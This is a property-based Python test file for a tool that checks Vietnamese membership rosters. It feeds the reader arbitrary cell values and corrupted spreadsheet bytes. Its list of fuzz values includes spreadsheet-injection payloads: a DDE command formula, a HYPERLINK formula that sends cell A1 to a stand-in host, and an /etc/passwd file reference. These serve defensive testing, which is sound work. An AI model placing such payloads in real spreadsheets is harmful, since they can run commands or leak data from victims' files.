"""Property-based tests (hypothesis): whatever a roster's cells hold, and whatever bytes a file
holds, reading and checking it never raises, and every problem comes back as an issue of a known
rule with a message in Vietnamese.

- any value (text in any script, numbers, dates, blanks, very long text, formulas and formula-like
  text) in every column of a roster written with openpyxl (`tests/builders.write_roster`), read
  and checked as `check` does (`app.check_files`);
- random bytes, and random damage to real rosters' bytes (.xlsx, .xlsm, .xls, .ods of the corpus),
  read by `roster.read_workbook`: no exception, and a file that cannot be read says why.

Examples are few (the suite's budget): hypothesis keeps the ones that failed once in its database
and tries them first next time.
"""

from __future__ import annotations

import datetime as dt
import re
import tempfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from builders import CANDIDATE_HEADER, MEMBER_HEADER, STT, member, write_register, write_roster
from pipeline.app import check_files
from pipeline.roster import read_workbook
from pipeline.rulebook import CONTENT_FIELDS, LOCATION_FIELDS, RULES

VIETNAMESE = re.compile(r"[ăâđêôơưạảấầẩẫậắằẳẵặẹẻẽếềểễệịỉĩọỏốồổỗộớờởỡợụủứừửữựỳỷỹý]")
# A message field left unfilled (a value quoted in the message may hold any brace).
UNFILLED = re.compile(r"\{(?:" + "|".join(sorted(LOCATION_FIELDS | CONTENT_FIELDS)) + r")\}")
CORPUS = Path(__file__).parent / "data" / "corpus" / "inbox"
SEEDS = [CORPUS / "CB-PC01_2022-Q3.xlsx", CORPUS / "CB-PC17_2022-Q3.xlsm", CORPUS / "CB-PC19_2022-Q3.ods",
         CORPUS / "DS dang vien CB-PC04 Q3_2022.xls"]
FEW = settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.too_slow])

# Text openpyxl can write (it refuses the C0 control characters but tab and line breaks).
text = st.text(st.characters(exclude_categories=("Cs",)), max_size=40).map(lambda t: ILLEGAL_CHARACTERS_RE.sub("", t))
long_text = st.integers(32_000, 40_000).map(lambda n: "Nguyễn " * (n // 7))
formulas = st.sampled_from(['=HYPERLINK("http://x/"&A1,"bấm")', "=cmd|' /C calc'!A0", "=1/0", "=A1", "=SUM(1,2",
                            "+1+1", "-2+3", "@SUM(1)", '<img src="file:///etc/passwd">', "=" + "(" * 50])
cell_values = st.one_of(
    st.none(), text, long_text, formulas,
    st.integers(-10**15, 10**15), st.floats(allow_nan=False, allow_infinity=False, width=32),
    st.dates(dt.date(1, 1, 1), dt.date(9999, 12, 31)), st.datetimes(dt.datetime(1900, 1, 1), dt.datetime(2200, 1, 1)),
    st.booleans(), st.sampled_from(["Nam", "Nữ", "Kinh", "x", "049190000001", "31/02/1990", "1990", ""]),
)


def _row(header: list[str], draw) -> dict:
    return {h: draw(cell_values) for h in header if h != STT}


def _problems_are_issues(issues) -> None:
    for issue in issues:
        assert issue.rule in RULES, issue
        assert issue.message and VIETNAMESE.search(issue.message) and not UNFILLED.search(issue.message), issue


@pytest.fixture(scope="module")
def units(tmp_path_factory) -> Path:
    return write_register(tmp_path_factory.mktemp("register") / "units.xlsx")


@FEW
@given(data=st.data())
def test_any_value_in_any_column_is_read_and_checked_without_an_exception(units, data):
    members = [_row(MEMBER_HEADER, data.draw) for _ in range(data.draw(st.integers(0, 3)))]
    candidates = [_row(CANDIDATE_HEADER, data.draw) for _ in range(data.draw(st.integers(0, 2)))]
    info = data.draw(st.fixed_dictionaries({"year": st.one_of(st.just(2022), cell_values),
                                            "quarter": st.one_of(st.just(3), cell_values),
                                            "created": st.one_of(st.just(dt.date(2022, 10, 3)), cell_values)}))
    with tempfile.TemporaryDirectory() as folder:
        path = write_roster(Path(folder) / "CB-A_2022-Q3.xlsx", "CB-A", members, candidates=candidates, **info)
        checked = check_files([path], units, year=2022, quarter=3, today=dt.date(2022, 10, 20))
    assert [c.file for c in checked] == [path.name]
    _problems_are_issues(checked[0].issues)


def _refused(path: Path) -> None:
    wb = read_workbook(path)
    _problems_are_issues(wb.issues)
    if not wb.readable:
        assert wb.issues, "a file that cannot be read must say why"


@FEW
@given(st.binary(max_size=4096), st.sampled_from([".xlsx", ".xls", ".ods", ".xlsm", ".csv", ""]))
def test_random_bytes_are_an_issue_not_an_exception(data, suffix):
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / f"CB-A{suffix}"
        path.write_bytes(data)
        wb = read_workbook(path)
    _problems_are_issues(wb.issues)
    assert not wb.readable and wb.issues


@st.composite
def damaged(draw) -> tuple[bytes, str]:
    """A real roster's bytes with a few random changes: bytes overwritten, cut, inserted, repeated."""
    seed = draw(st.sampled_from(SEEDS))
    data = bytearray(seed.read_bytes())
    for _ in range(draw(st.integers(1, 4))):
        kind = draw(st.sampled_from(["flip", "cut", "insert", "repeat"]))
        at = draw(st.integers(0, len(data) - 1))
        if kind == "flip":
            data[at:at + 4] = draw(st.binary(min_size=1, max_size=4))
        elif kind == "cut":
            del data[at:at + draw(st.integers(1, 4096))]
        elif kind == "insert":
            data[at:at] = draw(st.binary(min_size=1, max_size=64))
        else:
            data[at:at] = data[at:at + draw(st.integers(1, 512))] * draw(st.integers(2, 20))
        if not data:
            data = bytearray(b"PK")
    return bytes(data), seed.suffix


@settings(max_examples=50, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(damaged())
def test_a_damaged_roster_is_read_or_refused_with_an_issue(case):
    data, suffix = case
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / f"CB-A_2022-Q3{suffix}"
        path.write_bytes(data)
        _refused(path)


def test_a_serial_number_past_the_years_read_is_a_bad_date_not_a_crash(units):
    """Found by the test above: an Excel serial number between 31/12/2262 and 31/12/9999
    (150000 typed into a date cell) overflowed pandas' nanosecond dates and stopped the check
    (`normalize.parse_dates` takes serials 1–2958465; a date is read only within `normalize.YEARS`)."""
    with tempfile.TemporaryDirectory() as folder:
        path = write_roster(Path(folder) / "CB-A_2022-Q3.xlsx", "CB-A",
                            [member("Nguyễn Văn An", 1990, n=1, **{"Ngày chính thức": 150000})])
        checked = check_files([path], units, year=2022, quarter=3, today=dt.date(2022, 10, 20))
    assert [(i.rule, i.value) for i in checked[0].issues if i.rule == "BAD_DATE"] == [("BAD_DATE", "150000")]
